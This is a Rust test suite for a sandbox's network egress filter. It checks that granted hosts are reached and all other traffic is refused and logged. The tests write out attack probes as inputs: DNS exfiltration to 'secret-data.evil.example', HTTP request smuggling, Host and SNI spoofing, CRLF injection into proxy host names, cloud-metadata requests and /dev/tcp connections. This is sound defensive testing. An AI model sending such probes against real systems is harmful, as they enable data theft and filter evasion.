//! The network by name, with real clients, against servers in a namespace of the tests' own.

#![expect(clippy::unwrap_used, reason = "a test that can not go on fails")]

mod clients;
mod internet;
mod keys;
mod lab;
mod language;
mod model;
mod nobody;
mod program;
mod server;
mod sockets;

use lab::{curl, ordinary, ordinary_launcher, possible, python, run, script};

#[test]
#[ignore = "the other tests' internet, which they start by themselves"]
fn internet() {
    internet::run();
}

#[test]
fn a_granted_host_is_reached_and_no_other() {
    if !possible() {
        return;
    }
    let ran = curl("net=api.example.com", "http://api.example.com/x http://api.example.com:443/y");
    assert_eq!(ran.out, "93.184.216.34:80 api.example.com /x\n93.184.216.34:443 api.example.com:443 /y\n");
    assert!(ran.has("+api.example.com:80", "to 93.184.216.34:80"), "{:?}", ran.network());
    let ran = curl("net=api.example.com", "http://other.example.org/");
    assert_eq!((ran.code, ran.out.as_str()), (6, ""));
    assert!(ran.has("-other.example.org", "isn't granted"), "{:?}", ran.network());
    let ran = curl("net=api.example.com", "-L http://api.example.com/redirect");
    assert!(ran.code == 6 && ran.has("-other.example.org", "isn't granted"), "{:?}", ran.network());
}

/// The same without any of root's rights: no helper, no capability, no group.
#[test]
fn an_ordinary_user_has_the_same_network() {
    if !possible() {
        return;
    }
    let fetch = "/usr/bin/curl --noproxy '*' -sS -m 10";
    let ran = ordinary("sh", "net=api.example.com", &format!("{fetch} http://api.example.com/x"));
    assert_eq!(ran.out, "93.184.216.34:80 api.example.com /x\n", "{:?}", ran.network());
    assert!(ran.has("+api.example.com:80", "to 93.184.216.34:80"), "{:?}", ran.network());
    let ran = ordinary("sh", "net=api.example.com", &format!("{fetch} http://other.example.org/"));
    assert_eq!((ran.code, ran.out.as_str()), (6, ""));
    assert!(ran.has("-other.example.org", "isn't granted"), "{:?}", ran.network());
    let ran = ordinary("sh", "net", &format!("{fetch} http://api.example.com:8443/y"));
    assert_eq!(ran.out, "93.184.216.34:8443 api.example.com:8443 /y\n", "{:?}", ran.network());
    let ran = ordinary("sh", "net", &format!("{fetch} http://127.0.0.1:8443/"));
    assert_eq!((ran.code != 0, ran.out.as_str()), (true, ""));
    let server = r#"
import socket
s = socket.create_server(("127.0.0.1", 8080)); c, a = s.accept(); c.sendall(c.recv(9)[::-1]); c.close()
try: socket.create_connection(("93.184.216.34", 80)); print("out")
except OSError as e: print(e.errno)
"#;
    let ran = script(&format!(
        "{} --cap-set stdout,serve=8080 --report \"$LAB/report\" -- /usr/bin/python3 -c '{server}' &
for i in $(seq 100); do echo abc | timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/8080; cat >&3; cat <&3' 2>/dev/null | grep cba && break; sleep 0.1; done
wait",
        ordinary_launcher("python")
    ));
    assert!(ran.out.contains("cba") && !ran.out.contains("out"), "{}", ran.out);
    assert!(ran.has("+8080", "from 127.0.0.1"), "{:?}", ran.network());
}

#[test]
fn a_port_is_reached_only_if_it_is_granted() {
    if !possible() {
        return;
    }
    let ran = curl("net=api.example.com:8443", "http://api.example.com:8443/");
    assert_eq!(ran.out, "93.184.216.34:8443 api.example.com:8443 /\n");
    let ran = curl("net=api.example.com:8443,net=www.example.com:80", "http://api.example.com:80/");
    // How far curl is when the reset comes is a matter of time.
    let reset = matches!(ran.code, 7 | 52 | 55 | 56);
    assert!(reset && ran.has("-api.example.com:80", "doesn't grant"), "{} {:?}", ran.code, ran.network());
    assert_eq!(curl("net=api.example.com", "http://api.example.com:8443/").code, 7);
}

#[test]
fn spellings_of_a_name_are_one_name() {
    if !possible() {
        return;
    }
    let program = r#"
import socket
for name in ("api.example.com", "API.Example.COM.", "bücher.example.com"):
    s = socket.create_connection((name, 9000)); s.sendall(b"ping\n"); print(s.recv(9)); s.close()
"#;
    let ran = python("net=Api.example.com:9000,net=BÜCHER.example.com:9000", program);
    assert_eq!(ran.out, "b'ping\\n'\n".repeat(3), "{:?}", ran.network());
    let ran = curl("net=*.example.com", "http://a.b.example.com/ http://www.example.com./");
    assert_eq!(ran.out.lines().count(), 2, "{}", ran.out);
    for name in ["other.example.org", "OTHER.Example.ORG."] {
        let refused = curl("net=*.example.com", &format!("http://{name}/"));
        assert!(
            refused.code == 6 && refused.has("-other.example.org", "isn't granted"),
            "{name} {:?}",
            refused.network()
        );
    }
    let ran = python(
        "net=*.example.com",
        "import socket\nsocket.create_connection((\"bücher.example.org\", 9000))",
    );
    assert!(ran.code == 1 && ran.has("-xn--bcher-kva.example.org", "isn't granted"), "{:?}", ran.network());
}

#[test]
fn an_address_is_reached_in_every_spelling_if_it_is_granted() {
    if !possible() {
        return;
    }
    let all =
        "http://93.184.216.34/ http://0x5db8d822/ http://[::ffff:93.184.216.34]/ http://0135.0270.0330.042/";
    let ran = curl("net=93.184.216.34", all);
    assert_eq!(ran.out.matches("93.184.216.34:80").count(), 4, "{}", ran.out);
    for granted in ["net=api.example.com", "net=93.184.216.35"] {
        assert_ne!(curl(granted, "http://93.184.216.34/").code, 0, "{granted}");
    }
    let ran = curl("net=93.184.216.34", "-H 'Host: other.example.org' http://93.184.216.34/");
    assert!(ran.has("-93.184.216.34:80", "for other.example.org"), "{:?}", ran.network());
}

#[test]
fn names_of_addresses_that_are_not_public_lead_nowhere() {
    if !possible() {
        return;
    }
    let names = ["loop", "meta", "ten", "six", "mapped", "nat64", "bad-alias"];
    for name in names {
        let host = format!("{name}.example.com");
        let ran = curl(&format!("net={host}"), &format!("http://{host}/"));
        // The reset comes while curl still waits for its connect to be told, or after that.
        assert!(matches!(ran.code, 7 | 56) && ran.out.is_empty(), "{name}: {}", ran.code);
        assert!(ran.has(&format!("-{host}:80"), "is not public"), "{:?}", ran.network());
    }
    let ran = curl("net=ten.example.com,net=10.0.0.1", "http://ten.example.com/");
    assert_eq!(ran.out, "10.0.0.1:80 ten.example.com /\n");
    let ran = curl(
        "net=mixed.example.com,net=alias.example.com",
        "http://mixed.example.com/ http://alias.example.com/",
    );
    assert_eq!(ran.out.matches("93.184.216.34:80").count(), 2, "{}", ran.out);
}

#[test]
fn a_name_that_turns_to_a_private_address_is_refused_from_then_on() {
    if !possible() {
        return;
    }
    let ran = curl(
        "net=turning.example.com",
        "http://turning.example.com/1 -: --noproxy '*' -sS http://turning.example.com/2",
    );
    assert!(ran.out.starts_with("93.184.216.34:80"), "{}", ran.out);
    let ran = python(
        "net=turning.example.com:9000",
        r#"
import socket
for i in (1, 2):
    s = socket.create_connection(("turning.example.com", 9000))
    try: s.sendall(b"ping\n"); print(s.recv(9))
    except OSError as e: print(e.errno)
    s.close()
"#,
    );
    assert_eq!(ran.out, "b'ping\\n'\n104\n");
    assert!(ran.has("-turning.example.com:9000", "10.0.0.1 is not public"), "{:?}", ran.network());
}

#[test]
fn a_request_or_hello_for_another_host_is_cut_off() {
    if !possible() {
        return;
    }
    let ran = curl("net=api.example.com", "-H 'Host: other.example.org' http://api.example.com/");
    assert!(
        matches!(ran.code, 7 | 52 | 55 | 56) && ran.has("-api.example.com:80", "for other.example.org"),
        "{:?}",
        ran.network()
    );
    let hello = |name: &str| {
        format!(
            r#"
import socket, ssl
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
s = socket.create_connection(("api.example.com", 443))
try: c.wrap_socket(s, server_hostname={name})
except OSError as e: print(type(e).__name__)
"#
        )
    };
    // The server echoes the hello, which is no answer: the name has passed.
    let ran = python("net=api.example.com", &hello("\"api.example.com\""));
    assert_eq!(ran.out, "SSLError\n", "{:?}", ran.network());
    for name in ["\"other.example.org\"", "None"] {
        let ran = python("net=api.example.com", &hello(name));
        assert_eq!(ran.out, "ConnectionResetError\n", "{name}");
        assert!(ran.has("-api.example.com:443", "TLS"), "{:?}", ran.network());
    }
    let ran = python(
        "net=api.example.com,net=93.184.216.34",
        &hello("None").replace("api.example.com", "93.184.216.34"),
    );
    assert_eq!(ran.out, "SSLError\n", "{:?}", ran.network());
    let smuggled = r#"
import socket
s = socket.create_connection(("api.example.com", 80))
s.sendall(b"POST / HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
try: print(s.recv(99))
except OSError as e: print(e.errno)
"#;
    let ran = python("net=api.example.com", smuggled);
    assert_eq!(ran.out, "104\n");
    assert!(ran.has("-api.example.com:80", ""), "{:?}", ran.network());
    let one_length = smuggled.replace("Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n", "\\r\\nabc");
    let ran = python("net=api.example.com", &one_length);
    assert!(ran.out.starts_with("b'HTTP/1.1 200") && ran.has("+api.example.com:80", ""), "{}", ran.out);
}

#[test]
fn what_is_no_plain_request_opens_no_way_for_later_ones() {
    if !possible() {
        return;
    }
    // The server answers odd lines too, as a lenient front would, and goes on with the next request.
    let program = r#"
import socket
def ask(port, first, host):
    s = socket.create_connection(("api.example.com", port))
    try: s.sendall(first + b"Host: api.example.com\r\n\r\nGET /2 HTTP/1.1\r\nHost: " + host + b"\r\n\r\n"); f = s.makefile("rb"); return any(b" /2" in f.readline() for _ in range(20))
    except OSError as e: return e.errno
for port in (80, 9000):
    print(*(ask(port, line, b"api.example.com") for line in (b"X" * 65 + b" / HTTP/1.1\r\n", b"GET / HTTP/1.1\r\n")), end=" ")
    print(*(ask(port, line, b"other.example.org") for line in (b"X" * 65 + b" / HTTP/1.1\r\n", b"GET\x0b/ HTTP/1.1\r\n", b" GET / HTTP/1.1\r\n", b"GET /x\r\n")))
"#;
    let ran = python("net=api.example.com,net=api.example.com:9000", program);
    assert_eq!(ran.out, "True True 104 104 104 104\n".repeat(2), "{:?}", ran.network());
    assert!(ran.has("-api.example.com:80", "for other.example.org"), "{:?}", ran.network());
    assert!(ran.has("-api.example.com:9000", "isn't METHOD TARGET VERSION"), "{:?}", ran.network());
}

#[test]
fn the_proxy_asks_the_same_ceiling() {
    if !possible() {
        return;
    }
    for proxy in ["http://127.0.0.1:3128", "socks5h://127.0.0.1:3128", "socks5://127.0.0.1:3128"] {
        let fetch = |url: &str, tunnel: &str| {
            run(
                "sh",
                "net=api.example.com",
                &format!("/usr/bin/curl --noproxy '' -sS -f {tunnel} -x {proxy} {url}"),
            )
        };
        for tunnel in ["", "-p"] {
            let ran = fetch("http://api.example.com/x", tunnel);
            assert_eq!(
                ran.out,
                "93.184.216.34:80 api.example.com /x\n",
                "{proxy} {tunnel} {:?}",
                ran.network()
            );
            assert_ne!(fetch("http://other.example.org/", tunnel).code, 0);
        }
    }
    let ran = python(
        "net=api.example.com",
        "import urllib.request as u; print(u.urlopen(\"http://api.example.com/x\").read())",
    );
    assert!(ran.out.contains("93.184.216.34:80 api.example.com /x"), "{}", ran.out);
    // One request is carried; another one behind it gets no answer, and an end.
    let again = r#"
import socket
s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(20)
ask = lambda host: s.sendall(b"GET http://" + host + b"/x HTTP/1.1\r\nHost: " + host + b"\r\n\r\n")
ask(b"api.example.com"); print(b"api.example.com /x" in s.recv(9999))
got = b""
try:
    ask(b"other.example.org")
    while (more := s.recv(9999)): got += more
except OSError as e: print(type(e) is not TimeoutError)
else: print(True)
print(b"other.example.org" in got)
"#;
    let ran = python("net=api.example.com", again);
    assert_eq!(ran.out, "True\nTrue\nFalse\n", "{:?}", ran.network());
    // A name that would end the line of a request, and one that would end a text.
    let names = r#"
import socket
for name in (b"api.example.com\r\nHost: other.example.org", b"api.example.com\0.example.org", b"api.example.com"):
    s = socket.create_connection(("127.0.0.1", 3128)); s.sendall(b"\5\1\0"); s.recv(2)
    s.sendall(b"\5\1\0\3" + bytes([len(name)]) + name + b"\0\x50"); print(s.recv(10)[1:2])
for end in (b"\r\n", b"\n"):
    s = socket.create_connection(("127.0.0.1", 3128)); s.sendall(b"CONNECT api.example.com:80 HTTP/1.1" + end + b"Host: api.example.com:80" + end + end); print(s.recv(12))
"#;
    let ran = python("net=api.example.com", names);
    let lines: Vec<&str> = ran.out.lines().collect();
    assert!(lines.len() == 5 && lines[..2].iter().all(|line| *line != "b'\\x00'"), "{}", ran.out);
    assert_eq!(lines[2..4], ["b'\\x00'", "b'HTTP/1.1 200'"], "{} {:?}", ran.out, ran.network());
    assert!(lines[4] != "b'HTTP/1.1 200'", "{}", ran.out);
    assert!(ran.network().iter().filter(|line| line.starts_with('-')).count() >= 3, "{:?}", ran.network());
    let ran = run(
        "sh",
        "net=api.example.com",
        "/usr/bin/curl --noproxy '' -sS -p -x http://127.0.0.1:3128 -H 'Host: other.example.org' http://api.example.com/",
    );
    assert!(ran.has("-api.example.com:80", "for other.example.org"), "{:?}", ran.network());
}

#[test]
fn a_bare_grant_reaches_every_public_host_and_port() {
    if !possible() {
        return;
    }
    let ran = curl("net", "http://other.example.org:9000/ http://93.184.216.35/ http://api.example.com:443/");
    assert_eq!(ran.out.lines().count(), 3, "{} {:?}", ran.out, ran.network());
    for (url, why) in [
        ("http://203.0.114.1/", "host's own"),
        ("http://10.0.0.1/", "not public"),
        ("http://169.254.169.254/", "not public"),
        ("http://ten.example.com/", "not public"),
    ] {
        let ran = curl("net", url);
        assert!(
            ran.out.is_empty()
                && ran.network().iter().any(|line| line.starts_with('-') && line.contains(why)),
            "{url}"
        );
    }
    assert_eq!(curl("net", "http://127.0.0.1:9/").code, 7);
    // What the kernel itself doesn't connect to is told as well.
    let many = r#"
import socket
for address in ("224.0.0.1", "255.255.255.255", "ff02::1", "fe80::1"):
    s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
    try: s.connect((address, 80)); print("open")
    except OSError: print("no")
"#;
    let ran = python("net", many);
    assert_eq!(ran.out, "no\n".repeat(4), "{:?}", ran.network());
    for target in ["-224.0.0.1:80", "-255.255.255.255:80", "-[ff02::1]:80", "-[fe80::1]:80"] {
        assert!(ran.has(target, "no connections"), "{target} {:?}", ran.network());
    }
}

#[test]
fn only_tcp_and_the_name_server_are_there() {
    if !possible() {
        return;
    }
    let program = r#"
import socket
for family, kind, proto in ((16, 3, 0), (17, 3, 0), (40, 1, 0), (38, 5, 0), (2, 3, 1), (2, 2, 1), (1, 1, 0), (1, 2, 0), (2, 1, 262)):
    try: socket.socket(family, kind, proto); print("open", family)
    except OSError as e: print(e.errno, end=" ")
u = socket.socket(2, 2); u.connect(("93.184.216.34", 443))
"#;
    let ran = python("net=api.example.com", program);
    assert_eq!(ran.out, "1 1 1 1 1 1 1 1 1 ");
    assert_eq!(ran.refused_calls(), ["socket"]);
    assert_ne!(ran.code, 0, "a datagram went somewhere");
    let ran = python("time", "import socket; socket.socket()");
    assert_eq!((ran.code, ran.refused_calls()), (1, vec!["socket".to_owned()]));
}

#[test]
fn the_name_server_survives_what_is_no_question() {
    if !possible() {
        return;
    }
    let program = r#"
import socket, struct
def q(name, kind): return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + struct.pack(">BHH", 0, kind, 1)
u = socket.socket(2, 2); u.settimeout(5); u.connect(("198.18.0.1", 53))
def ask(m): u.send(m); return u.recv(9999)
print(ask(q("api.example.com", 1))[3] & 15, ask(q("api.example.com", 16))[3:8].hex(), ask(q("secret-data.evil.example", 1))[3] & 15)
print(ask(q("api.example.com", 1)[:20])[3] & 15)
u.send(b"x"); u.send(b"\xff" * 9000)
t = socket.create_connection(("198.18.0.1", 53)); m = q("api.example.com", 28)
t.sendall(struct.pack(">H", len(m)) + m); print(t.recv(2) > b"\0", t.recv(99)[7])
print(ask(q("API.example.com", 1))[-4:][:2])
"#;
    let ran = python("net=api.example.com", program);
    assert_eq!(ran.out, "0 8000010000 5\n1\nTrue 1\nb'\\xc6\\x12'\n", "{:?}", ran.network());
    assert!(ran.has("-secret-data.evil.example", "isn't granted"));
}

/// Data in labels, a pointer in a question, two questions, an answer, a stump, nothing at all, and half a message over TCP: each
/// is told, and the question of the granted name beside them is answered as ever.
#[test]
fn what_is_no_question_is_told() {
    if !possible() {
        return;
    }
    let program = r#"
import socket, struct
def q(labels, flags=b"\1\0", count=1): return b"\x12\x34" + flags + bytes([0, count]) + bytes(6) + labels + b"\0\0\1\0\1"
name = b"\3api\7example\3com"
u = socket.socket(2, 2); u.settimeout(5); u.connect(("198.18.0.1", 53))
for wrong in [q(b"".join(b"\x3f" + b"a" * 63 for i in range(5))), q(b"\xc0\x0c"), q(name, count=2), q(name, flags=b"\x81\0"), b"abc", b"", q(name) + bytes(1300)]: u.send(wrong)
t = socket.create_connection(("198.18.0.1", 53)); t.sendall(b"\0\x20abc"); t.shutdown(1); t.recv(1)
t = socket.create_connection(("198.18.0.1", 53)); t.sendall(b"\x20\0abc"); t.recv(1)
left = socket.create_connection(("198.18.0.1", 53)); left.sendall(b"\0\x20abc")
u.send(q(name)); codes = [u.recv(999)[3] & 15 for i in range(4)]
print(codes)
"#;
    let ran = python("net=api.example.com", program);
    assert_eq!(ran.out, "[1, 1, 1, 0]\n", "{:?}", ran.network());
    let told =
        |why: &str| ran.network().iter().filter(|line| **line == format!("-name server | {why}")).count();
    assert_eq!(told("the name server was sent what is no question"), 7, "{:?}", ran.network());
    assert_eq!(told("a question that did not end"), 2, "{:?}", ran.network());
    assert_eq!(told("a question of more than 1232 bytes"), 1, "{:?}", ran.network());
}

/// What is left half said to the proxy is a connection like any other; who says nothing wants nothing.
#[test]
fn a_proxy_request_that_does_not_end_is_told() {
    if !possible() {
        return;
    }
    let program = r#"
import socket
for half in [b"garbage", b"\x16\3\1", b"\5\1\0\5\1", b"CONNECT api.example.com:443 HTTP/1.1\r\n", b""]:
    s = socket.create_connection(("127.0.0.1", 3128)); s.sendall(half); s.shutdown(1)
    while s.recv(99): pass
left = socket.create_connection(("127.0.0.1", 3128)); left.sendall(b"CONN"); silent = socket.create_connection(("127.0.0.1", 3128))
import time; time.sleep(0.3)
"#;
    let ran = python("net=api.example.com", program);
    assert_eq!(ran.network(), ["-proxy | a proxy request that did not end"; 5], "{}", ran.out);
}

/// A port on which the egress takes streams takes no datagrams: what is sent there finds nobody, and is told with its address.
#[test]
fn a_datagram_to_a_port_of_the_egress_is_told_with_its_target() {
    if !possible() {
        return;
    }
    let program = r#"
import socket
u = socket.socket(2, 2)
for port in [18004, 18005, 3128]: u.sendto(b"a", ("127.0.0.1", port))
"#;
    let ran = python("net=127.0.0.1:18004", program);
    for port in [18004, 18005, 3128] {
        assert!(
            ran.has(&format!("-127.0.0.1:{port}"), "nobody listens there in the jail"),
            "{:?}",
            ran.network()
        );
    }
}

/// No connection goes to a port of the name server's address that nobody has, and each is told.
#[test]
fn a_port_of_the_name_server_that_nobody_has_is_told() {
    if !possible() {
        return;
    }
    let program = r#"
import socket
try: socket.create_connection(("198.18.0.1", 54))
except OSError as e: print(e.errno)
"#;
    // Landlock's refusal where ports are granted, and the kernel's own where all are.
    for (grant, errno) in [("net", "111\n"), ("net=api.example.com", "13\n")] {
        let ran = python(grant, program);
        assert_eq!(ran.out, errno, "{grant}");
        assert!(ran.has("-198.18.0.1:54", ""), "{grant}: {:?}", ran.network());
    }
}

#[test]
fn a_served_port_is_reached_from_outside_and_leads_nowhere_else() {
    if !possible() {
        return;
    }
    let server = r#"
import socket
s = socket.create_server(("127.0.0.1", 80)); c, a = s.accept(); c.sendall(c.recv(9)[::-1]); c.close()
try: socket.create_connection(("93.184.216.34", 80)); print("out")
except OSError as e: print(e.errno)
"#;
    let ran = script(&format!(
        "timeout 20 \"$TW\" exec --policy python --cap-set stdout,serve=80 --report \"$LAB/report\" -- /usr/bin/python3 -c '{server}' &
for i in $(seq 100); do echo abc | timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/80; cat >&3; cat <&3' 2>/dev/null | grep cba && break; sleep 0.1; done
wait"
    ));
    assert!(ran.out.contains("cba") && !ran.out.contains("out"), "{}", ran.out);
    assert!(ran.has("+80", "from 127.0.0.1"), "{:?}", ran.network());
}

#[test]
fn the_egress_holds_nothing_but_its_sockets() {
    if !possible() {
        return;
    }
    let ran = script(
        r#"
"$TW" exec --policy python --cap-set stdout,net=api.example.com --report "$LAB/report" -- /usr/bin/python3 -c 'import time; time.sleep(3)' & tw=$!
here=$(readlink /proc/self/ns/net)
for i in $(seq 200); do
  for child in $(cat /proc/$tw/task/$tw/children); do
    [ "$(readlink /proc/$child/ns/net)" = "$here" ] && grep -q 'Seccomp:.2' /proc/$child/status && egress=$child
  done
  [ -n "$egress" ] && break; sleep 0.01
done
grep -E '^(CapEff|CapPrm|CapBnd|NoNewPrivs|Seccomp):' /proc/$egress/status | tr -d '\t'
for fd in /proc/$egress/fd/*; do readlink $fd; done | sed 's/:.*//' | sort -u
kill -9 $egress; wait $tw
"#,
    );
    let nothing = "CapPrm:0000000000000000\nCapEff:0000000000000000\nCapBnd:0000000000000000\nNoNewPrivs:1\nSeccomp:2\n";
    assert_eq!(ran.out, format!("{nothing}/dev/null\nanon_inode\nsocket\n"));
    // Without it the run goes on, and an entry says that nothing is reached any more.
    assert!(ran.code == 0 && ran.has("-*", "the egress has ended"), "{:?}", ran.network());
}

#[test]
fn a_hello_that_does_not_end_is_cut_off_and_many_connections_are_not() {
    if !possible() {
        return;
    }
    let slow = r#"
import socket
s = socket.create_connection(("api.example.com", 443)); s.sendall(b"\x16\x03\x01\x02\x00\x01"); s.settimeout(14)
try: print(s.recv(1))
except OSError as e: print(e.errno)
"#;
    let ran = python("net=api.example.com", slow);
    assert_eq!(ran.out, "104\n");
    assert!(ran.has("-api.example.com:443", "didn't come to an end"), "{:?}", ran.network());
    let many = r#"
import socket
held = []
for i in range(230):
    s = socket.create_connection(("93.184.216.34", 9000)); s.sendall(b"ping\n"); held.append(s)
print(sum(s.recv(5) == b"ping\n" for s in held))
"#;
    assert_eq!(python("net=93.184.216.34:9000", many).out, "230\n");
}
